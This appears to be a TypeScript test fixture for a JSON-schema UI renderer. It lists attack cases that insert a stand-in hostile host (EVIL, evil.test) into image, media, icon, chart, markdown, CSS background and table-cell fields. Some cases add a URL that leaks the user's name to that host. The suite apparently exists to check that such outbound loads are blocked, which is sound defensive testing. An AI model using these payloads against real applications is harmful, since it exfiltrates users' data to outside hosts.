import { type Attack, button, chart, EVIL, house, inForm, line } from './attack';

const LEAK = `${EVIL}/leak?d=\${user.name}`;
const row = (more: object): unknown =>
  house({ type: 'table', data: '${source.x}', columns: [{ field: 'a', title: 'a', ...more }] });
const scatter = (symbol: string): unknown =>
  chart({
    xAxis: {},
    yAxis: {},
    series: [
      {
        type: 'scatter',
        symbol,
        symbolSize: 20,
        data: [
          [1, 2],
          [2, 3],
        ],
      },
    ],
  });

/** Addresses of another host in places that load something: written, composed from data, and from an answer. */
export const loaded: Record<string, Attack> = {};
const PLACES: Record<string, Omit<Attack, 'body'> & { at(address: string): unknown }> = {
  image: { at: (src) => ({ type: 'image', src, enlargeAble: true, originalSrc: src }) },
  'image that does not come': { at: (defaultImage) => ({ type: 'image', src: '/files/none.png', defaultImage }) },
  'static image': { at: (value) => inForm({ type: 'static-image', name: 'a', value }) },
  images: { at: (src) => ({ type: 'images', options: [{ image: src, src }, src] }) },
  avatar: {
    at: (src) => [
      { type: 'avatar', src },
      { type: 'avatar', icon: src },
      { type: 'avatar', src: '/files/none.png', defaultAvatar: src },
    ],
  },
  video: { shows: 'video', at: (src) => ({ type: 'video', src, poster: src }) },
  audio: { shows: '.antd-Audio', at: (src) => ({ type: 'audio', src, rates: [1, 2] }) },
  icons: {
    at: (icon) => [
      button({ icon, rightIcon: icon }),
      { type: 'icon', icon },
      { type: 'nav', links: [{ label: 'x', icon, to: '/home' }] },
      { type: 'timeline', items: [{ time: 'x', title: 'x', icon }] },
      { type: 'steps', steps: [{ title: 'x', icon }] },
    ],
  },
  carousel: { shows: '.antd-Carousel', at: (image) => ({ type: 'carousel', options: [{ image }] }) },
  card: {
    shows: '.antd-Card',
    at: (url) => ({
      type: 'card',
      header: { title: 'x', avatar: url },
      media: { type: 'image', url, position: 'left' },
      body: [],
    }),
  },
  qrcode: { at: (src) => ({ type: 'qrcode', value: 'x', imageSettings: { src, width: 20, height: 20 } }) },
  list: {
    at: (avatar) => ({
      type: 'list',
      source: '${source.rows}',
      data: { source: { rows: [{ a: 1 }] } },
      listItem: { avatar, title: 'x' },
    }),
  },
  'list-select': {
    at: (image) => inForm({ type: 'list-select', name: 'a', options: [{ label: 'x', value: 1, image }] }),
  },
  'chart symbols': { shows: 'canvas', at: (address) => scatter(`image://${address}`) },
  'chart graphics': {
    shows: 'canvas',
    at: (image) =>
      chart({ ...line, graphic: [{ type: 'image', left: 0, top: 0, style: { image, width: 50, height: 50 } }] }),
  },
  'chart backgrounds': {
    shows: 'canvas',
    at: (image) =>
      chart({
        ...line,
        backgroundColor: { image },
        xAxis: {
          type: 'category',
          data: ['a', 'b'],
          axisLabel: { formatter: '{a|}', rich: { a: { width: 20, height: 20, backgroundColor: { image } } } },
        },
      }),
  },
  markdown: {
    shows: '.antd-Markdown',
    at: (address) => ({ type: 'markdown', value: `![x](${address})\n\n![y][r]\n\n[r]: ${address}` }),
  },
  backgrounds: {
    at: (address) => [
      { type: 'container', style: { background: `url(${address})` }, body: 'x' },
      { type: 'wrapper', style: { backgroundImage: address }, body: 'x' },
    ],
  },
  'own picture': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'image', src }) },
  'own gallery': {
    shows: '.at-media-none',
    at: (src) => house({ type: 'media', kind: 'gallery', src: `\${SPLIT('${src}', ' ')}` }),
  },
  'own video': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'video', src }) },
  'own poster': {
    shows: 'video',
    at: (poster) => house({ type: 'media', kind: 'video', src: '/files/none.mp4', poster }),
  },
  'own sound': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'audio', src }) },
};
for (const [name, { at, ...more }] of Object.entries(PLACES)) {
  loaded[`${name}: written`] = { ...more, body: at(`${EVIL}/written`) };
  if (name !== 'own gallery') loaded[`${name}: with data`] = { ...more, body: at(LEAK) };
  if (name !== 'own gallery' && name !== 'static image')
    loaded[`${name}: from an answer`] = { ...more, body: at('${source.x}'), data: `${EVIL}/answer` };
}
const ROWS = [{ a: `${EVIL}/row`, b: `//evil.test/row2` }];
Object.assign(loaded, {
  'cells: image': { shows: '.at-table', body: row({ as: 'image' }), data: ROWS },
  'cells: avatar': { shows: '.at-table', body: row({ as: 'avatar', text: '${row.b}' }), data: ROWS },
  'cells: picture': { shows: '.at-table', body: row({ picture: '${row.a}' }), data: ROWS },
  'cells: picture with data': { shows: '.at-table', body: row({ picture: LEAK }), data: ROWS },
  'cells: amis': {
    shows: 'td',
    body: {
      type: 'crud',
      api: 'source:x',
      columns: [
        { name: 'a', label: 'a', type: 'image' },
        { name: 'b', label: 'b', type: 'avatar', src: '${b}' },
      ],
    },
    data: { list: ROWS, total: 1 },
  },
  'chart of an answer': {
    shows: 'canvas',
    body: { type: 'chart', height: 200, api: 'source:x' },
    data: {
      xAxis: {},
      yAxis: {},
      series: [{ type: 'scatter', symbol: `image://${EVIL}/symbol`, data: [[1, 2]] }],
      graphic: [{ type: 'image', style: { image: `${EVIL}/graphic`, width: 9, height: 9 } }],
    },
  },
} satisfies Record<string, Attack>);
